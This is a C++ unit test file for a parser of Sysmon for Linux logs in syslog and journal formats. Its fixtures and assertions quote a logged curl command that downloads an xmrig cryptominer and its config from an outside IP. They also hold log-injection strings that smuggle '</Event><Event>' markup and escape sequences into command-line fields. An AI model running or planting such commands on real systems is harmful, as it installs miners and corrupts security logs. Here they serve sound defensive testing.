// Sysmon for Linux's logs: the syslog header forms, the journal's JSON and
// export forms, the event XML mapped as Windows Sysmon's, and bad lines
// (cut short, not XML, over the line limit, forged in the journal), on the
// logs of tests/data/sysmon_linux (real published syslog lines and a real
// journald's output; sources in its README.md).
#include <boost/test/unit_test.hpp>

#include "actors/ingest/format_sniffer.hpp"
#include "actors/ingest/sysmon_event.hpp"
#include "actors/ingest/sysmon_linux_reader.hpp"
#include "tests/support/printers.hpp"

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

BOOST_AUTO_TEST_SUITE(sysmon_linux_test)

using namespace proctrack;
namespace fs = std::filesystem;

namespace {

fs::path fixtures() {
  const char *s = std::getenv("PROCTRACK_SOURCE");
  return fs::path(s != nullptr ? s : "/work/main") / "tests" / "data"
         / "sysmon_linux";
}

std::string read_bytes(const fs::path &p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

struct temp_file {
  fs::path path;
  explicit temp_file(const std::string &text) {
    path = fs::temp_directory_path()
           / ("sysmon-linux-" + std::to_string(::getpid()) + "-"
              + std::to_string(reinterpret_cast<std::uintptr_t>(this)));
    std::ofstream out(path, std::ios::binary);
    out << text;
  }
  ~temp_file() {
    std::error_code ec;
    fs::remove(path, ec);
  }
};

struct read_all {
  std::vector<sysmon_event> events;
  std::vector<std::string> errors, notes;
  sysmon_linux_reader::counters stats;
  sysmon_linux_reader::form form = sysmon_linux_reader::form::syslog;
};

read_all read(const fs::path &p) {
  sysmon_linux_reader r(p.string());
  std::string error;
  BOOST_REQUIRE_MESSAGE(r.open(error), error);
  read_all out;
  sysmon_event ev;
  while (r.next(ev))
    out.events.push_back(ev);
  out.errors = r.take_errors();
  out.notes = r.take_notes();
  out.stats = r.stats();
  out.form = r.file_form();
  return out;
}

// The syslog line of record 76954 (curl, pid 4005) as published.
std::string curl_line() {
  std::istringstream in(read_bytes(fixtures() / "ip-172-31-60-25.syslog"));
  std::string line;
  while (std::getline(in, line))
    if (line.find("<EventRecordID>76954<") != std::string::npos)
      return line;
  BOOST_FAIL("record 76954 not in the fixture");
  return {};
}

std::string xml_of(const std::string &line) {
  return line.substr(line.find("<Event>"));
}

std::string data_of(const process_update &u, const std::string &key) {
  for (auto &f : u.process.data)
    if (f.key == key)
      return f.json;
  return {};
}

} // namespace

BOOST_AUTO_TEST_CASE(syslog_header_forms) {
  auto xml = xml_of(curl_line());
  struct form {
    std::string line, host, tag;
  } forms[] = {
      // rsyslog's traditional file format (the published line).
      {curl_line(), "ip-172-31-60-25", "sysmon"},
      // rsyslog's RFC 3339 timestamps (Debian 12's default), with a pid.
      {"2022-11-24T09:59:47.884000+00:00 ip-172-31-60-25 sysmon[1109]: " + xml,
       "ip-172-31-60-25", "sysmon"},
      // journalctl -o short-iso / short-precise, a one-digit day.
      {"2022-11-24T09:59:47+0000 ip-172-31-60-25 sysmon[1109]: " + xml,
       "ip-172-31-60-25", "sysmon"},
      {"Nov  4 09:59:47.884123 ip-172-31-60-25 sysmon[1109]: " + xml,
       "ip-172-31-60-25", "sysmon"},
      // RFC 5424, nil and bracketed structured data, a BOM before MSG.
      {"<14>1 2022-11-24T09:59:47.884Z ip-172-31-60-25 sysmon 1109 - - " + xml,
       "ip-172-31-60-25", "sysmon"},
      {"<14>1 2022-11-24T09:59:47.884Z ip-172-31-60-25 sysmon 1109 - "
       "[origin x=\"a\\]b\"][meta y=\"1\"] \xEF\xBB\xBF"
           + xml,
       "ip-172-31-60-25", "sysmon"},
      // RFC 3164 as sent, with its priority.
      {"<14>Nov 24 09:59:47 ip-172-31-60-25 sysmon: " + xml, "ip-172-31-60-25",
       "sysmon"},
  };
  for (auto &f : forms) {
    BOOST_TEST_CONTEXT(f.line.substr(0, 80)) {
      syslog_line parts;
      BOOST_TEST_REQUIRE(split_syslog_line(f.line, parts));
      BOOST_TEST(parts.host == f.host);
      BOOST_TEST(parts.tag == f.tag);
      BOOST_TEST(parts.text == xml);
    }
  }
  syslog_line parts;
  BOOST_TEST(
      !split_syslog_line("Keywords,Date and Time,Source,Event ID", parts));
  BOOST_TEST(!split_syslog_line("{\"MESSAGE\":\"x\"}", parts));
  BOOST_TEST(!split_syslog_line(xml, parts));
  BOOST_TEST(!split_syslog_line("Nov 24 09:59:47 host", parts));
}

// The published syslog lines: every sysmon event in file order, the other
// program's lines counted and skipped; EID 1 translated field for field as
// the same event under Windows Sysmon's provider would be.
BOOST_AUTO_TEST_CASE(published_syslog_reads_every_event) {
  auto r = read(fixtures() / "ip-172-31-60-25.syslog");
  BOOST_TEST(r.errors.empty());
  BOOST_TEST(r.events.size() == 13u);
  BOOST_TEST(r.stats.other_lines == 3u); // xmrig[4090]
  BOOST_TEST(r.stats.unrecognised == 0u);
  BOOST_TEST(r.stats.bad_lines == 0u);
  std::vector<std::int64_t> ids;
  for (auto &e : r.events)
    ids.push_back(e.event_id);
  BOOST_TEST(ids
                 == (std::vector<std::int64_t>{1, 11, 1, 1, 1, 1, 3, 11, 3, 11,
                                               5, 1, 11}),
             boost::test_tools::per_element());
  auto &curl = r.events[5];
  BOOST_TEST(curl.provider == "Linux-Sysmon");
  BOOST_TEST(curl.computer == "ip-172-31-60-25");
  BOOST_TEST(curl.record_number == 76954u);
  BOOST_TEST(*curl.find("CommandLine")
             == "curl -s -O http://44.204.18.94:80/xmrig -O "
                "http://44.204.18.94:80/config.json");

  std::string why;
  BOOST_TEST_REQUIRE(is_process_event(curl));
  auto u = to_update(curl, why);
  BOOST_TEST_REQUIRE(u.has_value());
  BOOST_TEST(why.empty());
  BOOST_TEST(u->kind == update_kind::start);
  BOOST_TEST(u->host == "ip-172-31-60-25");
  BOOST_TEST(u->process.pid == "4005");
  BOOST_TEST(u->process.ppid == "4004");
  BOOST_TEST(u->process.guid == "{c9eb4a87-4093-637f-789d-2406ab550000}");
  BOOST_TEST(u->process.parent_guid
             == "{c9eb4a87-4093-637f-4884-6c9bed550000}");
  BOOST_TEST(data_of(*u, "Exe") == "\"/usr/bin/curl\"");
  BOOST_TEST(data_of(*u, "Name") == "\"curl\"");
  BOOST_TEST(data_of(*u, "Username") == "\"root\"");
  BOOST_TEST(data_of(*u, "CurrentDirectory") == "\"/opt/automation\"");
  BOOST_TEST(data_of(*u, "ParentImage") == "\"/bin/bash\"");
  BOOST_TEST(data_of(*u, "StartTime") == "\"2022-11-24T09:59:47.884Z\"");
  // The same decoder as Windows Sysmon's: the event under that provider
  // gives the same update.
  auto windows = curl;
  windows.provider = std::string{sysmon_provider};
  auto w = to_update(windows, why);
  BOOST_TEST_REQUIRE(w.has_value());
  BOOST_TEST_REQUIRE(w->process.data.size() == u->process.data.size());
  for (std::size_t i = 0; i < u->process.data.size(); ++i) {
    BOOST_TEST(w->process.data[i].key == u->process.data[i].key);
    BOOST_TEST(w->process.data[i].json == u->process.data[i].json);
  }

  auto &exit = r.events[10];
  auto x = to_update(exit, why);
  BOOST_TEST_REQUIRE(x.has_value());
  BOOST_TEST(x->kind == update_kind::exit);
  BOOST_TEST(x->target == "{c9eb4a87-4093-637f-789d-2406ab550000}");
  BOOST_TEST(!is_process_event(r.events[6])); // EID 3

  // Detected as Sysmon for Linux's form.
  std::string error;
  BOOST_TEST(
      sniff_format((fixtures() / "ip-172-31-60-25.syslog").string(), error)
      == input_format::sysmon_linux);
}

// Hostile and damaged lines: each bad one is an error naming its line;
// nothing valid around it is lost.
BOOST_AUTO_TEST_CASE(bad_lines_are_named_and_skipped) {
  auto line = curl_line();
  auto escaped = line;
  auto at = escaped.find("curl -s -O");
  escaped.insert(at, "echo &lt;/Event&gt;&lt;Event&gt; &amp;&amp; ");
  std::string bad_xml = line;
  bad_xml.replace(bad_xml.find("</EventData>"), 12, "</EvenData>");
  std::string huge = "Nov 24 09:59:47 ip-172-31-60-25 sysmon: <Event>"
                     + std::string(line_reader::default_max_line + 10, 'A')
                     + "</Event>";
  std::string text = line + "\n" + line.substr(0, 1024)
                     + "\n" // rsyslog cut it at 1 KiB
                     + escaped + "\n" + bad_xml + "\n" + huge + "\n"
                     + "Nov 24 09:59:49 ip-172-31-60-25 sysmon: Sysmon "
                       "v1.0.2 started\n"
                     + "a line with no header at all\n" + line + "\n";
  temp_file f(text);
  auto r = read(f.path);
  BOOST_TEST(r.events.size() == 3u);
  BOOST_TEST(r.stats.bad_lines == 3u);
  BOOST_TEST(r.stats.sysmon_text == 1u);
  BOOST_TEST(r.stats.unrecognised == 1u);
  BOOST_TEST_REQUIRE(r.errors.size() == 3u);
  auto name = f.path.string();
  BOOST_TEST(r.errors[0]
                 == name
                        + ":2: Sysmon for Linux event cut short after 984 "
                          "bytes (no closing </Event>: the syslog daemon's "
                          "message size limit?): skipped",
             r.errors[0]);
  BOOST_TEST(
      r.errors[1].rfind(name + ":4: Sysmon for Linux event: bad XML: ", 0)
          == 0u,
      r.errors[1]);
  BOOST_TEST(r.errors[2]
                 == name
                        + ":5: line longer than the 16 MiB limit: skipped (a "
                          "Sysmon event in it is lost)",
             r.errors[2]);
  BOOST_TEST(*r.events[1].find("CommandLine")
             == "echo </Event><Event> && curl -s -O "
                "http://44.204.18.94:80/xmrig -O "
                "http://44.204.18.94:80/config.json");
  BOOST_TEST(r.events[2].record_number == 76954u);
}

// The journal's two forms from a real journald: the same events as the
// syslog file plus the hostile one, whose MESSAGE journalctl gave as
// bytes; the entry a local user forged as "sysmon" is skipped and said.
BOOST_AUTO_TEST_CASE(journal_forms_read_the_same_events) {
  for (auto name : {"journal.json", "journal.export"}) {
    BOOST_TEST_CONTEXT(name) {
      auto r = read(fixtures() / name);
      BOOST_TEST(r.errors.empty());
      BOOST_TEST((r.form
                  == (std::string{name} == "journal.json"
                          ? sysmon_linux_reader::form::journal_json
                          : sysmon_linux_reader::form::journal_export)));
      BOOST_TEST(r.events.size() == 14u);
      BOOST_TEST(r.stats.other_lines == 2u); // CRON, xmrig
      BOOST_TEST(r.stats.sysmon_text == 1u); // its start-up text
      BOOST_TEST(r.stats.not_from_sysmon == 1u);
      BOOST_TEST_REQUIRE(r.notes.size() == 1u);
      BOOST_TEST(r.notes[0].find("journal entry with SYSLOG_IDENTIFIER=sysmon "
                                 "sent by _COMM=logger _UID=65534, not by "
                                 "Sysmon (root's sysmon): skipped")
                     != std::string::npos,
                 r.notes[0]);
      auto &hostile = r.events.back();
      BOOST_TEST(hostile.record_number == 77197u);
      BOOST_TEST(*hostile.find("CommandLine")
                 == "printf '\x1b[0m' </Event> && true");
      for (auto &e : r.events)
        BOOST_TEST(*e.find("ProcessId") != "6666");
      std::string error;
      BOOST_TEST(sniff_format((fixtures() / name).string(), error)
                 == input_format::sysmon_linux);
    }
  }
  std::string message, ident, comm, uid, host;
  BOOST_TEST(parse_journal_json(
      "{\"MESSAGE\":[60,69,62,27],\"SYSLOG_IDENTIFIER\":\"sysmon\","
      "\"_UID\":\"0\",\"_HOSTNAME\":\"h\"}",
      message, ident, comm, uid, host));
  BOOST_TEST(message == "<E>\x1b");
  BOOST_TEST(ident == "sysmon");
  BOOST_TEST(uid == "0");
  BOOST_TEST(host == "h");
  BOOST_TEST(!parse_journal_json("{\"MESSAGE\":[60,300]}", message, ident, comm,
                                 uid, host));
  BOOST_TEST(!parse_journal_json("{\"MESSAGE\":\"x\"", message, ident, comm,
                                 uid, host));
}

// A syslog holding no Sysmon event at all is said, with what it held.
BOOST_AUTO_TEST_CASE(syslog_without_sysmon_says_what_it_held) {
  temp_file f("-- Journal begins at Thu 2022-11-24 09:00:00 UTC. --\n"
              "Nov 24 09:59:49 ip-172-31-60-25 xmrig[4090]: POOL #1\n"
              "Nov 24 09:59:49 ip-172-31-60-25 CRON[77]: (root) CMD (x)\n");
  auto r = read(f.path);
  BOOST_TEST(r.events.empty());
  BOOST_TEST(r.errors.empty());
  BOOST_TEST_REQUIRE(r.notes.size() == 1u);
  BOOST_TEST(r.notes[0]
                 == f.path.string()
                        + ": syslog of 3 lines: no Sysmon for Linux event (2 "
                          "lines of other programs)",
             r.notes[0]);
}

BOOST_AUTO_TEST_SUITE_END()
